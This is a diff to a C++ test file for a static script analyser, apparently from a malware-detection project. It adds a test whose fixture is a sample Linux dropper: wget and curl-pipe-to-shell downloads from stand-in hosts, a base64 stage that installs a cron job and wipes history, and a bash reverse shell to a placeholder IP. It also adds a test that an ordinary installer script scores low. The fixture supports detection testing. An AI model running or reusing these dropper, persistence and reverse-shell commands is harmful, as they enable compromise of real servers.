@@ -168,5 +168,53 @@ TEST_CASE("An ordinary PowerShell script raises no script signature") {
   }
 }
 
+TEST_CASE("A Linux dropper script: download piped into a shell, reverse shell, cron, history wiped") {
+  // What a miner or IRC bot's installer on a web server looks like, its stage 2 under base64.
+  const std::string stage2 = "crontab -l | { cat; echo '*/5 * * * * /tmp/.x/k'; } | crontab -\nhistory -c\n";
+  static constexpr char kBase64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+  std::string encoded;
+  for (std::size_t i = 0; i < stage2.size(); i += 3) {
+    const std::uint32_t chunk = (static_cast<std::uint8_t>(stage2[i]) << 16) |
+                                (i + 1 < stage2.size() ? static_cast<std::uint8_t>(stage2[i + 1]) << 8 : 0) |
+                                (i + 2 < stage2.size() ? static_cast<std::uint8_t>(stage2[i + 2]) : 0);
+    encoded += kBase64[(chunk >> 18) & 63];
+    encoded += kBase64[(chunk >> 12) & 63];
+    encoded += i + 1 < stage2.size() ? kBase64[(chunk >> 6) & 63] : '=';
+    encoded += i + 2 < stage2.size() ? kBase64[chunk & 63] : '=';
+  }
+  const std::string script = "#!/bin/sh\n"
+                             "cd /tmp && wget -q http://198.51.100.23/k -O /tmp/.x/k && chmod +x /tmp/.x/k\n"
+                             "curl -fsSL http://update.kensa-test.jp/i.sh | sh\n"
+                             "echo " + encoded + " | base64 -d | sh\n"
+                             "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n";
+  auto result = Analyzer().Analyze(AsBytes(script), "install.sh");
+  REQUIRE(result.has_value());
+  INFO(result->DebugString());
+  CHECK(result->script().language() == "shell");
+  CHECK(HasAnomaly(*result, "script_download_unix"));
+  CHECK(HasAnomaly(*result, "script_execution_shell"));
+  CHECK(HasSignature(*result, "script_reverse_shell"));
+  // The cron entry and the wiped history are in the base64 stage only.
+  CHECK(HasSignature(*result, "script_persistence_unix"));
+  CHECK(HasSignature(*result, "script_defense_evasion"));
+  CHECK(HasUrl(*result, "http://update.kensa-test.jp/i.sh"));
+  bool decoded = false;
+  for (const auto& layer : result->script().layers()) decoded |= layer.kind() == "base64";
+  CHECK(decoded);
+}
+
+TEST_CASE("A shell script that only downloads, like an installer, stays at most low") {
+  // SigmaHQ's own CI helper fetches tools with wget and runs them.
+  auto bytes = ReadFileBounded("../shared/corpora/sigma/tests/check-baseline-local.sh", 1 << 20);
+  REQUIRE(bytes.has_value());
+  auto result = Analyzer().Analyze(*bytes, "check-baseline-local.sh");
+  REQUIRE(result.has_value());
+  CHECK(result->script().language() == "shell");
+  for (const auto& signature : result->signatures()) {
+    INFO(signature.name());
+    CHECK(signature.severity() <= analysis::v1::SEVERITY_LOW);
+  }
+}
+
 }  // namespace
 }  // namespace kensa::static_analysis
